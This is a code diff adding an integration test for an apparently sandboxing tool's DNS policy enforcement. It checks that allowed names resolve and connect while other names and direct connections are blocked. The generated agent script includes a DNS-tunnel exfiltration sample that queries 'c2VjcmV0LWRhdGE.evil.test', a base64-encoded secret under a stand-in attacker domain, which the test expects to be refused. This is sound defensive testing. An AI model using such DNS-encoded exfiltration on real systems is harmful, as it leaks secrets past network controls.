@@ -11,6 +11,7 @@ import { after, before, describe, test } from 'node:test';
 import { createServer, type AddressInfo, type Server } from 'node:net';
 import { createSocket, type Socket } from 'node:dgram';
 import { once } from 'node:events';
+import dnsPacket from 'dns-packet';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { runSession } from '../src/daemon.js';
 import type { WardenEvent } from '../src/pipeline/events.js';
@@ -331,6 +332,115 @@ u.send("SECRET-udp", ${udpTo}, "127.0.0.2", (e) => { tell("udp")(e); u.close(); 
         0,
         'pins lifted when the session ended',
       );
+    } finally {
+      ws.cleanup();
+    }
+  });
+});
+
+describe('domain rules through Warden’s resolver', () => {
+  const asked: string[] = [];
+  let upstream: Socket;
+  let upstreamPort = 0;
+  const got: Record<string, string> = {};
+  const servers: Server[] = [];
+  let port = 0;
+
+  before(async () => {
+    upstream = createSocket('udp4');
+    upstream.on('message', (msg, rinfo) => {
+      const q = dnsPacket.decode(msg);
+      const name = q.questions?.[0]?.name ?? '';
+      asked.push(name);
+      const ip = { 'allowed.test': '127.0.0.3', 'other.test': '127.0.0.4' }[name];
+      const reply = dnsPacket.encode({
+        id: q.id,
+        type: 'response',
+        flags: dnsPacket.RECURSION_AVAILABLE,
+        questions: q.questions,
+        answers: ip && q.questions?.[0]?.type === 'A' ? [{ type: 'A', name, ttl: 60, data: ip }] : [],
+      } as dnsPacket.Packet);
+      upstream.send(reply, rinfo.port, rinfo.address);
+    });
+    upstream.bind(0, '127.0.0.1');
+    await once(upstream, 'listening');
+    upstreamPort = upstream.address().port;
+    for (const host of ['127.0.0.3', '127.0.0.4']) {
+      const srv = createServer((s) => s.on('data', (d) => (got[host] = (got[host] ?? '') + d)));
+      srv.listen(port, host);
+      await once(srv, 'listening');
+      port = (srv.address() as AddressInfo).port;
+      servers.push(srv);
+    }
+  });
+  after(() => {
+    upstream.close();
+    for (const s of servers) s.close();
+  });
+
+  test('an allowed name resolves and connects; other names are refused and their addresses stay closed', async (t) => {
+    if (!needKernel(t)) return;
+    const ws = tempDir('dns');
+    try {
+      const yaml = `apiVersion: warden.dev/v1
+kind: Policy
+metadata: {name: dns}
+network:
+  allow: [allowed.test, 127.0.0.1]
+`;
+      const policy = compilePolicy(parsePolicy(yaml, 'dns.yaml'), { workspace: ws.path });
+      const script = join(ws.path, 'agent.js');
+      writeFileSync(
+        script,
+        `const dns = require('node:dns'), net = require('node:net');
+const r = new dns.promises.Resolver(); r.setServers(['127.0.0.9']);
+const out = [];
+const send = (ip, text) => new Promise((ok) => {
+  const s = net.connect(${port}, ip, () => s.end(text, () => ok('sent')));
+  s.on('error', (e) => ok(e.code));
+});
+(async () => {
+  for (const name of ['allowed.test', 'other.test', 'c2VjcmV0LWRhdGE.evil.test']) {
+    try { const [ip] = await r.resolve4(name); out.push(name + '=' + ip + ':' + await send(ip, 'via-' + name)); }
+    catch (e) { out.push(name + ':' + e.code); }
+  }
+  out.push('direct:' + await send('127.0.0.4', 'direct'));
+  console.log(out.join('\\n'));
+})();`,
+      );
+      const cfg = { ...testConfig(state.path), dnsUpstream: { host: '127.0.0.1', port: upstreamPort } };
+      const outFile = join(ws.path, 'out');
+      const result = await runSession(cfg, {
+        command: ['/bin/sh', '-c', `node ${script} > ${outFile} 2>&1`],
+        enforcement: { policy },
+      });
+      await sleep(200);
+      const said = readFileSync(outFile, 'utf8');
+      assert.match(said, /^allowed\.test=127\.0\.0\.3:sent$/m, said);
+      assert.match(said, /^other\.test:EREFUSED$/m, said);
+      assert.match(said, /^c2VjcmV0LWRhdGE\.evil\.test:EREFUSED$/m, said);
+      assert.match(said, /^direct:EPERM$/m, said);
+      assert.equal(got['127.0.0.3'], 'via-allowed.test');
+      assert.equal(got['127.0.0.4'], undefined, 'nothing reached the address of a name the policy does not allow');
+      assert.deepEqual([...new Set(asked)], ['allowed.test'], 'refused names never left the machine');
+      const store = Store.open(state.path);
+      const events = store.eventsOf(result.session.id);
+      store.close();
+      const dns = events.filter((e) => e.type === 'dns');
+      assert.deepEqual(
+        dns.map((e) => [e.type === 'dns' && e.name, e.decision?.verdict]),
+        [
+          ['allowed.test', 'allowed'],
+          ['other.test', 'denied'],
+          ['c2vjcmv0lwrhdge.evil.test', 'denied'],
+        ],
+      );
+      assert.ok(
+        dns.every((e) => e.comm === 'node'),
+        'each query is attributed to the process that asked',
+      );
+      const conn = events.find((e) => e.type === 'connect' && e.daddr === '127.0.0.3');
+      assert.deepEqual([conn?.decision?.verdict, conn?.decision?.rule], ['allowed', 'network.allow[0]']);
     } finally {
       ws.cleanup();
     }
